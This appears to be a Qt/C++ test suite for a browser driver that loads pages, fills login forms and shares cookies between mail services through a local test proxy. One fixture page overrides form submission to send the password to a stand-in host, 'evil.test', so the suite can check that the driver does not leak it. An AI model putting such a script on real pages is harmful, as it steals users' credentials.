// The browser driver on the real browser host plugin (Qt WebEngine, offscreen)
// against a local web server that the browser uses as its proxy, so pages of
// any host name are served here.
#include "ScriptedWebServer.h"
#include "platform/SystemClock.h"
#include "webmail/FendrelLoader.h"
#include "webmail/HTTPConnector.h"
#include "webmail/WebForm.h"

#include <QApplication>
#include <QElapsedTimer>
#include <QSignalSpy>
#include <QtTest>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

using namespace orvane;
using namespace orvane::test;
using namespace Qt::StringLiterals;

namespace {

constexpr int kBounded = 30000;
quint16 g_proxyPort = 0;

// A free loopback port, found before the application exists, because the
// engine reads its proxy from the environment when it starts.
quint16 freePort()
{
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof address;
    ::bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address);
    ::getsockname(fd, reinterpret_cast<sockaddr*>(&address), &length);
    ::close(fd);
    return ntohs(address.sin_port);
}

QString pluginPath()
{
    return QDir(qEnvironmentVariable("ORVANE_PROGRAM_DIR"))
        .filePath(QLatin1String(FendrelLoader::kFileName));
}

// Every live process with its parent.
QHash<uint, uint> liveParents()
{
    QHash<uint, uint> parents;
    for (const QString& entry : QDir(QStringLiteral("/proc")).entryList(QDir::Dirs)) {
        QFile stat(QStringLiteral("/proc/%1/stat").arg(entry));
        if (entry.toUInt() == 0 || !stat.open(QIODevice::ReadOnly))
            continue;
        const QByteArray text = stat.readAll();
        const QList<QByteArray> fields = text.mid(text.lastIndexOf(')') + 2).split(' ');
        if (fields.value(0) != "Z")
            parents.insert(entry.toUInt(), fields.value(1).toUInt());
    }
    return parents;
}

// The engine's helpers started by this process (its zygotes, and helpers
// started without one), and the page processes its zygotes have forked.
int helperProcesses()
{
    const uint self = uint(QCoreApplication::applicationPid());
    const QList<uint> parents = liveParents().values();
    return int(std::count(parents.cbegin(), parents.cend(), self));
}

int rendererProcesses()
{
    const QHash<uint, uint> parents = liveParents();
    const uint self = uint(QCoreApplication::applicationPid());
    int renderers = 0;
    for (auto it = parents.cbegin(); it != parents.cend(); ++it)
        renderers += parents.value(it.value()) == self ? 1 : 0;
    return renderers;
}

} // namespace

class FendrelCtrlTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void browses_data();
    void browses();
    void fillsAndSubmitsAForm();
    void fillsOnlyThePageRead_data();
    void fillsOnlyThePageRead();
    void sharesBrowsersBetweenServices_data();
    void sharesBrowsersBetweenServices();
    void startsOneZygoteOnly();
    void laterCheckOfAServiceFindsNoLogIn();
    void brokenPlugin();
    void debugWindow();

private:
    ScriptedWebServer m_server;
    SystemClock m_clock;
    std::unique_ptr<FendrelLoader> m_browsers;
};

void FendrelCtrlTest::initTestCase()
{
    if (!QFile::exists(pluginPath()))
        QSKIP("The browser host plugin was not built (no Qt WebEngine).");
    QVERIFY(m_server.listen(g_proxyPort));
    m_browsers = std::make_unique<FendrelLoader>(pluginPath());

    const QByteArray frame = "<html><body>frame</body></html>";
    m_server.setPage(QStringLiteral("http://pages.test/once"),
                     QByteArray("<html><body><p>Inbox (3)</p></body></html>"));
    m_server.setPage(QStringLiteral("http://pages.test/redirect"),
                     QByteArray("<html><body><script>setTimeout(function () {"
                                " location.href = 'http://pages.test/target'; }, 1000);"
                                "</script></body></html>"));
    m_server.setPage(QStringLiteral("http://pages.test/target"),
                     QByteArray("<html><body>target</body></html>"));
    m_server.setPage(QStringLiteral("http://pages.test/frames"),
                     QByteArray("<html><frameset cols='*,*,*'><frame src='/f1'><frame src='/f2'>"
                                "<frame src='/f3'></frameset></html>"));
    m_server.setPage(QStringLiteral("/f1"), ScriptedWebServer::Page{frame, {}, 0, false});
    m_server.setPage(QStringLiteral("/f2"), ScriptedWebServer::Page{frame, {}, 500, false});
    m_server.setPage(QStringLiteral("/f3"), ScriptedWebServer::Page{frame, {}, 1000, false});
    m_server.setPage(QStringLiteral("http://pages.test/popup"),
                     QByteArray("<html><body onload=\"window.open('http://pages.test/opened',"
                                " 'w'); alert('hello'); confirm('sure?');\">popup</body></html>"));
    m_server.setPage(QStringLiteral("http://pages.test/script-error"),
                     QByteArray("<html><body><script>no_such_function();</script>"
                                "<script>alert('x');</script>broken</body></html>"));
    m_server.setPage(QStringLiteral("http://pages.test/slow"),
                     ScriptedWebServer::Page{"<html><body>slow</body></html>", {}, 2500, false});
    m_server.setPage(QStringLiteral("http://login.test/form"),
                     QByteArray("<html><body><form name='search'><input name='q'></form>"
                                "<form name='login_form' method='post' action='/done'"
                                " onsubmit='return false'><input type='hidden' name='.tries'"
                                " value='1'><input name='login'><input type='password'"
                                " name='passwd'></form></body></html>"));
    m_server.setPage(QStringLiteral("http://login.test/done"),
                     QByteArray("<html><body><b>Inbox (12)</b></body></html>"));
    // An advertisement frame that a script adds once the page has loaded.
    m_server.setPage(QStringLiteral("http://pages.test/late-frame"),
                     QByteArray("<html><body>late<script>addEventListener('load', function () {"
                                " setTimeout(function () { var f = document.createElement("
                                "'iframe'); f.src = 'http://ads.test/banner';"
                                " document.body.appendChild(f); }, 500); });</script>"
                                "</body></html>"));
    m_server.setPage(QStringLiteral("http://ads.test/banner"),
                     ScriptedWebServer::Page{frame, {}, 1000, false});
    const QByteArray loginForm = "<form name='login_form' method='post' action='/done'><input"
                                 " name='login'><input type='password' name='passwd'></form>";
    m_server.setPage(
        QStringLiteral("http://other.test/form"),
        QByteArray("<html><body><form name='search'></form>" + loginForm + "</body></html>"));
    m_server.setPage(QStringLiteral("http://login.test/patched"),
                     QByteArray("<html><body><form name='search'></form>" + loginForm +
                                "<script>HTMLFormElement.prototype.submit = function () {"
                                " location.href = 'http://evil.test/?' + this.passwd.value; };"
                                "</script></body></html>"));
    m_server.setPage(QStringLiteral("http://pages.test/set-cookie"),
                     QByteArray("<html><body><script>document.cookie = 'who=first';</script>"
                                "</body></html>"));
    m_server.setPage(QStringLiteral("http://pages.test/cookies"),
                     QByteArray("<html><body><script>document.body.textContent ="
                                " 'cookies:' + document.cookie;</script></body></html>"));
    m_server.setPage(QStringLiteral("http://pages.test/moved"),
                     ScriptedWebServer::Page{{}, "http://pages.test/target", 0, false});
}

void FendrelCtrlTest::browses_data()
{
    QTest::addColumn<QString>("address");
    QTest::addColumn<QString>("finalUrl");
    QTest::addColumn<int>("atLeastMs");
    QTest::addColumn<int>("starts"); // navigation requests the control reports, at least

    QTest::newRow("completes once") << QStringLiteral("http://pages.test/once")
                                    << QStringLiteral("http://pages.test/once") << 2000 << 1;
    QTest::newRow("script redirect a second later")
        << QStringLiteral("http://pages.test/redirect")
        << QStringLiteral("http://pages.test/target") << 3000 << 2;
    QTest::newRow("server redirect") << QStringLiteral("http://pages.test/moved")
                                     << QStringLiteral("http://pages.test/target") << 2000 << 1;
    QTest::newRow("three frames") << QStringLiteral("http://pages.test/frames")
                                  << QStringLiteral("http://pages.test/frames") << 3000 << 4;
    QTest::newRow("pop-up and dialogs") << QStringLiteral("http://pages.test/popup")
                                        << QStringLiteral("http://pages.test/popup") << 2000 << 1;
    QTest::newRow("script error") << QStringLiteral("http://pages.test/script-error")
                                  << QStringLiteral("http://pages.test/script-error") << 2000 << 1;
    QTest::newRow("frame added after the load")
        << QStringLiteral("http://pages.test/late-frame")
        << QStringLiteral("http://pages.test/late-frame") << 2000 << 2;
    QTest::newRow("slow page") << QStringLiteral("http://pages.test/slow")
                               << QStringLiteral("http://pages.test/slow") << 4500 << 1;
}

void FendrelCtrlTest::browses()
{
    QFETCH(QString, address);
    QFETCH(QString, finalUrl);
    QFETCH(int, atLeastMs);
    QFETCH(int, starts);

    m_server.requests.clear();
    HTTPConnector web(m_clock, m_browsers.get());
    const int windowsBefore = int(QApplication::topLevelWidgets().size());
    QSignalSpy done(&web, &WebDriver::DoneBrowsing);
    QSignalSpy errors(&web, &WebDriver::Error);
    QSignalSpy navigations(&web.form(), &WebForm::StartBrowsing);
    QElapsedTimer elapsed;
    elapsed.start();
    web.GoToURL(address);
    QVERIFY(web.form().Browser());

    QTRY_COMPARE_WITH_TIMEOUT(done.count(), 1, kBounded);
    QVERIFY2(elapsed.elapsed() >= atLeastMs, qPrintable(QString::number(elapsed.elapsed())));
    QCOMPARE(errors.count(), 0);
    QVERIFY(!web.Busy());
    QVERIFY(web.Document().hasDocument);
    QCOMPARE(web.URL(), finalUrl);
    // Nothing more settles, no window opened, nothing asked for the pop-up.
    QTest::qWait(2500);
    QCOMPARE(done.count(), 1);
    QCOMPARE(int(QApplication::topLevelWidgets().size()), windowsBefore);
    QVERIFY(!m_server.requests.contains(QStringLiteral("GET http://pages.test/opened")));
    QVERIFY2(navigations.count() >= starts, qPrintable(QString::number(navigations.count())));
}

void FendrelCtrlTest::fillsAndSubmitsAForm()
{
    HTTPConnector web(m_clock, m_browsers.get());
    QSignalSpy done(&web, &WebDriver::DoneBrowsing);
    web.GoToURL(QStringLiteral("http://login.test/form"));
    QTRY_COMPARE_WITH_TIMEOUT(done.count(), 1, kBounded);

    const WebPage& page = web.Document();
    QCOMPARE(page.forms.size(), 2);
    QCOMPARE(page.forms.at(1).name, QStringLiteral("login_form"));
    QCOMPARE(
        page.forms.at(1).fields,
        (QStringList{QStringLiteral(".tries"), QStringLiteral("login"), QStringLiteral("passwd")}));
    QVERIFY(page.html.contains(QLatin1String("<form name=\"search\">")));

    m_server.postBodies.clear();
    web.SubmitForm(1, {{1, QStringLiteral("bob")}, {2, QStringLiteral("s\u00e9cret&x")}});
    QTRY_COMPARE_WITH_TIMEOUT(done.count(), 2, kBounded);
    QCOMPARE(web.URL(), QStringLiteral("http://login.test/done"));
    QCOMPARE(m_server.postBodies, QList<QByteArray>{".tries=1&login=bob&passwd=s%C3%A9cret%26x"});
    QVERIFY(web.Document().html.contains(QLatin1String("Inbox (12)")));
}

void FendrelCtrlTest::fillsOnlyThePageRead_data()
{
    QTest::addColumn<QString>("address");
    QTest::addColumn<QString>("movedTo"); // where the page goes between reading and filling
    QTest::addColumn<QByteArray>("posted");

    QTest::newRow("page replaced its submit") << QStringLiteral("http://login.test/patched")
                                              << QString() << QByteArray("login=bob&passwd=secret");
    QTest::newRow("page moved to another site")
        << QStringLiteral("http://login.test/form") << QStringLiteral("http://other.test/form")
        << QByteArray();
}

void FendrelCtrlTest::fillsOnlyThePageRead()
{
    QFETCH(QString, address);
    QFETCH(QString, movedTo);
    QFETCH(QByteArray, posted);

    HTTPConnector web(m_clock, m_browsers.get());
    QSignalSpy done(&web, &WebDriver::DoneBrowsing);
    QSignalSpy errors(&web, &WebDriver::Error);
    web.GoToURL(address);
    QTRY_COMPARE_WITH_TIMEOUT(done.count(), 1, kBounded);
    const qsizetype form = web.Document().findForm(QStringLiteral("login_form"), Qt::CaseSensitive);
    QVERIFY(form >= 0);
    if (!movedTo.isEmpty()) {
        // The page goes elsewhere by itself; the driver has not read it yet.
        QVERIFY(web.form().Browser()->Navigate(movedTo));
        QTRY_VERIFY_WITH_TIMEOUT(!web.form().Browser()->Busy(), kBounded);
        QCOMPARE(done.count(), 1);
    }

    m_server.requests.clear();
    m_server.postBodies.clear();
    const int fields = int(web.Document().forms.at(form).fields.size());
    web.SubmitForm(form,
                   {{fields - 2, QStringLiteral("bob")}, {fields - 1, QStringLiteral("secret")}});
    if (posted.isEmpty()) {
        QTRY_COMPARE_WITH_TIMEOUT(errors.count(), 1, kBounded);
        QCOMPARE(errors.at(0).at(0).toString(), QStringLiteral("Unable to load webpage."));
        QTest::qWait(500);
    } else {
        QTRY_COMPARE_WITH_TIMEOUT(done.count(), 2, kBounded);
        QCOMPARE(errors.count(), 0);
    }
    QCOMPARE(m_server.postBodies, posted.isEmpty() ? QList<QByteArray>() : QList{posted});
    QVERIFY2(!m_server.requests.join(u' ').contains(QLatin1String("evil.test")),
             qPrintable(m_server.requests.join(u' ')));
}

void FendrelCtrlTest::sharesBrowsersBetweenServices_data()
{
    QTest::addColumn<QStringList>("services");
    QTest::addColumn<int>("renderers");
    QTest::addColumn<bool>("cookiesShared");

    QTest::newRow("four services share one")
        << QStringList{QStringLiteral("Hotmail"), QStringLiteral("Yahoo"), QStringLiteral("a"),
                       QStringLiteral("b")}
        << 1 << true;
    QTest::newRow("one service twice shares nothing")
        << QStringList{QStringLiteral("Hotmail"), QStringLiteral("Hotmail")} << 2 << false;
}

void FendrelCtrlTest::sharesBrowsersBetweenServices()
{
    QFETCH(QStringList, services);
    QFETCH(int, renderers);
    QFETCH(bool, cookiesShared);

    std::vector<std::unique_ptr<HTTPConnector>> checks;
    for (const QString& service : services) {
        checks.push_back(std::make_unique<HTTPConnector>(m_clock, m_browsers.get(), service));
        HTTPConnector& web = *checks.back();
        QSignalSpy done(&web, &WebDriver::DoneBrowsing);
        web.GoToURL(checks.size() == 1 ? QStringLiteral("http://pages.test/set-cookie")
                                       : QStringLiteral("http://pages.test/cookies"));
        QTRY_COMPARE_WITH_TIMEOUT(done.count(), 1, kBounded);
        if (checks.size() > 1)
            QCOMPARE(web.Document().html.contains(QLatin1String("who=first")), cookiesShared);
    }
    // Renderers of checks before this one end in their own time.
    QTRY_COMPARE_WITH_TIMEOUT(rendererProcesses(), renderers, kBounded);
}

void FendrelCtrlTest::startsOneZygoteOnly()
{
    HTTPConnector web(m_clock, m_browsers.get());
    QSignalSpy done(&web, &WebDriver::DoneBrowsing);
    web.GoToURL(QStringLiteral("http://pages.test/once"));
    QTRY_COMPARE_WITH_TIMEOUT(done.count(), 1, kBounded);
    // Graphics and network run in this process, so a second zygote for
    // helpers outside the sandbox would only stand by, at some 20 MB.
    QCOMPARE(helperProcesses(), 1);
}

void FendrelCtrlTest::laterCheckOfAServiceFindsNoLogIn()
{
    const auto load = [](HTTPConnector& web, const QString& address) {
        QSignalSpy done(&web, &WebDriver::DoneBrowsing);
        web.GoToURL(address);
        return done.wait(kBounded) || done.count() > 0;
    };
    auto first = std::make_unique<HTTPConnector>(m_clock, m_browsers.get(), u"Hotmail"_s);
    QVERIFY(load(*first, u"http://pages.test/set-cookie"_s));
    // A check of another service keeps the browser while the first ends.
    HTTPConnector other(m_clock, m_browsers.get(), u"Yahoo"_s);
    QVERIFY(load(other, u"http://login.test/form"_s));
    first.reset();
    HTTPConnector later(m_clock, m_browsers.get(), u"Hotmail"_s);
    QVERIFY(load(later, u"http://pages.test/cookies"_s));
    QVERIFY2(later.Document().html.contains(QLatin1String("cookies:")),
             qPrintable(later.Document().html));
    QVERIFY2(!later.Document().html.contains(QLatin1String("who=first")),
             qPrintable(later.Document().html));
}

void FendrelCtrlTest::brokenPlugin()
{
    QTemporaryDir folder;
    const QString broken = folder.filePath(QLatin1String(FendrelLoader::kFileName));
    QFile file(broken);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("not a library");
    file.close();
    file.setPermissions(QFile::ReadOwner | QFile::WriteOwner);

    for (const QString& path : {broken, folder.filePath(QStringLiteral("missing.so"))}) {
        FendrelLoader browsers(path);
        HTTPConnector web(m_clock, &browsers);
        QSignalSpy errors(&web, &WebDriver::Error);
        web.GoToURL(QStringLiteral("http://pages.test/once"));
        web.GoToURL(QStringLiteral("http://pages.test/once"));
        QCOMPARE(errors.count(), 2);
        QCOMPARE(errors.at(0).at(0).toString(),
                 QStringLiteral("Failed to load Internet Explorer."));
    }
}

void FendrelCtrlTest::debugWindow()
{
    HTTPConnector web(m_clock, m_browsers.get());
    QSignalSpy done(&web, &WebDriver::DoneBrowsing);
    web.DebugOn(true);
    web.GoToURL(QStringLiteral("http://login.test/form"));
    QTRY_COMPARE_WITH_TIMEOUT(done.count(), 1, kBounded);
    QVERIFY(web.form().isVisible());
    QCOMPARE(web.form().windowTitle(), QStringLiteral("Form1"));
    QWidget* control = web.form().findChild<QWidget*>(QStringLiteral("myCtl"));
    QVERIFY(control);
    QCOMPARE(control->geometry(), web.form().rect());
    auto* browser = control->findChild<QWidget*>(QStringLiteral("IE"));
    QVERIFY(browser);
    QCOMPARE(browser->geometry(), control->rect());
    const QString shots = qEnvironmentVariable("ORVANE_PROGRAM_DIR") + QStringLiteral("/../tests");
    web.form().grab().save(shots + QStringLiteral("/Form1.png"));
}

int main(int argc, char* argv[])
{
    g_proxyPort = freePort();
    // As root the engine runs only without its sandbox; no GPU on a test box.
    qputenv("QTWEBENGINE_CHROMIUM_FLAGS",
            QStringLiteral("--no-sandbox --disable-gpu --proxy-server=127.0.0.1:%1 "
                           "--proxy-bypass-list=<-loopback>")
                .arg(g_proxyPort)
                .toLatin1());
    // The engine comes from a plugin, after the application has started.
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication app(argc, argv);
    FendrelCtrlTest test;
    return QTest::qExec(&test, argc, argv);
}

#include "FendrelCtrlTest.moc"
